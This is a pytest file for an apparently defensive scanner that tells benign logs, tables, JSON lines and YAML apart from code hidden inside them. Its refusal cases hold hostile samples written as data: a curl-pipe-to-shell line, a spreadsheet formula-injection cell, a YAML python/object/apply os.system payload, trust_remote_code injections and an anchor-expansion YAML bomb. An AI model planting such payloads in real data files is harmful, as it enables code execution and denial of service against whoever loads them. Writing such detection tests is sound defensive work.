"""Logs, tables, JSON a line, other encodings and anchors in YAML: data that looks like code."""

import pytest

from vallum.scan import ScanVerdict, scan_bytes

LOG = (
    "2024-05-01 10:00:00,123 INFO epoch 1 loss=0.5 eval(acc) is 0.1\n"
    "Traceback (most recent call last):\n"
    '  File "train.py", line 10, in <module>\n'
    "    value = getattr(model, name)\n"
    "AttributeError: no such attribute\n"
    "INFO:root: compile(optimizer) took 3 s\n"
    "Epoch 2/10\n"
)
TABLE = 'id,code\n1,"def f(x):\n  return eval(x)\n"\n2,x\n'
LINES = '{"text": "import os\\nos.system(\'ls\')"}\n{"text": "def f(): pass"}\n'
YAML = "defaults: &d\n  lr: 0.1\nrun:\n  <<: *d\n  epochs: 3\n"


@pytest.mark.parametrize(
    "text",
    [
        LOG,
        LOG.replace("2024-05-01 10:00:00,123 INFO", "[INFO]"),
        TABLE,
        TABLE.replace(",", "\t"),
        LINES,
        YAML,
        "epoch 3: eval(acc)=0.93\n",
        "a: &a [1, 2]\nb: [*a, *a]\nc: &e {x: 1}\nd: {<<: [*e], y: 2}\n",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_records_pass(text: str, encoding: str) -> None:
    assert scan_bytes("x", text.encode(encoding)).exit_code == 0


def test_a_table_in_latin_1_is_clean() -> None:
    data = "name,ort\nJürgen,Zürich\nRené,Genève\n".encode("latin-1")
    assert scan_bytes("x", data).verdict is ScanVerdict.CLEAN


@pytest.mark.parametrize(
    "data",
    [
        LOG.encode() + b"import os\n",  # no line of a log
        b"import os\n" + LOG.encode(),
        LOG.encode() + b"  curl https://example.org/x | sh\n",
        LOG.encode() + b"#!/bin/sh\n",
        b"INFO: eval(input())\nINFO: exec(x)\n",  # Python takes it
        b"a,b\neval(x),2\nimport os\n",  # no table
        b"a,b\neval(x),2\n",  # Python takes it
        b'a,b\neval("x"),2//\n',  # JavaScript takes it
        b'[INFO]\n eval("x")\n',
        b"id,text\n1,=cmd|'/c calc'!A0\n",
        b'{"a": 1}\nimport os\n',
        b'{"a": 1}\n{"auto_map": {"AutoModel": "x.Y"}}\n',
        b'{"a": 1}\n{"trust_remote_code": true}\n',
        b"x: &x {auto_map: {AutoModel: a.B}}\ny: *x\n",
        b"x: &x {a: 1}\ny: {<<: *x, trust_remote_code: true}\n",
        b"x: &x !!python/object/apply:os.system [id]\ny: *x\n",
        b"x: &x [*x]\n",
        "import os\nos.system('id')  # ü\n".encode("latin-1"),
        "import os\nos.system('id')\n".encode("utf-16"),
        b"a0: &a0 [1, 1]\n"
        + b"".join(b"a%d: &a%d [%b]\n" % (n, n, b", ".join([b"*a%d" % (n - 1)] * 9))
                   for n in range(1, 12)),
    ],
)  # fmt: skip
def test_code_among_records_is_refused(data: bytes) -> None:
    assert scan_bytes("x", data).exit_code == 1
